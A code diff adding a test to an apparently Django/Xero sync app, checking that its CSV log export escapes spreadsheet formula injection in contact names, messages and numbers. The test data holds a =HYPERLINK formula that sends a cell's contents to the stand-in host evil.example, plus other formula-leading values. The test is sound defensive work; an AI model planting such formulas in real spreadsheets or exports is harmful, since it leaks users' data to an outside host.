@@ -345,6 +345,29 @@ def test_the_items_export_as_csv_for_one_run_or_the_filtered_log(viewer_client, 
     assert [r["outcome"] for r in failures] == ["Failed"]
 
 
+def test_the_log_export_opens_hostile_names_and_xero_messages_as_text(viewer_client, connection):
+    run = run_with(connection)
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
+    item = SyncItemFactory(
+        run=run,
+        state=SyncItem.State.FAILED,
+        transaction=TransactionFactory(contact__name=hyperlink, number="-1+1"),
+        # Xero's messages echo what it was sent, the contact's name too.
+        message=f"@SUM(1) {hyperlink} is archived in Xero.",
+        xero_number="+INV-1",
+    )
+
+    (row,) = read_csv(viewer_client.get(EXPORT))
+
+    assert row["contact"] == "'" + hyperlink
+    assert row["transaction number"] == "'-1+1"
+    assert row["message"] == f"'@SUM(1) {hyperlink} is archived in Xero."
+    assert row["Xero number"] == "'+INV-1"
+    # The app's own values are written as they are.
+    assert row["run"] == str(run.pk) and row["outcome"] == "Failed"
+    assert row["updated"] == timezone.localtime(item.updated_at).isoformat(timespec="seconds")
+
+
 # --- Pruning -----------------------------------------------------------------------------------
 
 
